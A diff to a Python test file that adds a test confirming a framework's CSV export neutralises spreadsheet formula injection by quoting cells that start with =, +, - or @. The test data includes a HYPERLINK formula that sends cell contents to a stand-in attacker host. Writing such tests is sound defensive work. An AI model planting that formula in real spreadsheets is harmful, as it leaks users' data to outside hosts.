@@ -1,3 +1,4 @@
+import csv
 import json
 from io import StringIO
 from pathlib import Path
@@ -141,6 +142,25 @@ def test_csv_round_trip_and_broken_csv_line(frameworks, tmp_path):
     with pytest.raises(FormatProblem) as info:
         _import(bad_rank.encode(), name="qd.csv")
     assert info.value.location.startswith("line ") and "column 'rank'" in info.value.location
+
+
+def test_csv_export_quotes_formula_names_and_reimports_them_unchanged(framework, tmp_path):
+    formula = '=HYPERLINK("https://evil.example/?"&A1;"Details")'
+    Competency.objects.filter(code="QD.1").update(name=formula, description="-2+3")
+    Competency.objects.filter(code="QD.2").update(name="'zitiert", description="@SUM(1)")
+    out = tmp_path / "qd.csv"
+    call_command("export_framework", "qd", "--format", "csv", "-o", str(out))
+
+    rows = list(csv.reader(StringIO(out.read_text(encoding="utf-8"))))
+
+    cells = [cell for row in rows for cell in row]
+    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in cells)
+    written = {row[1]: row[5:7] for row in rows}
+    assert written["QD.1"] == ["'" + formula, "'-2+3"]
+    assert written["QD.2"] == ["''zitiert", "'@SUM(1)"]
+    _import(out.read_bytes(), name="qd.csv")
+    imported = {c.code: (c.name, c.description) for c in Competency.objects.all()}
+    assert imported == {"QD.1": (formula, "-2+3"), "QD.2": ("'zitiert", "@SUM(1)")}
 
 
 def test_case_export_reimports_as_the_same_framework(frameworks, tmp_path):
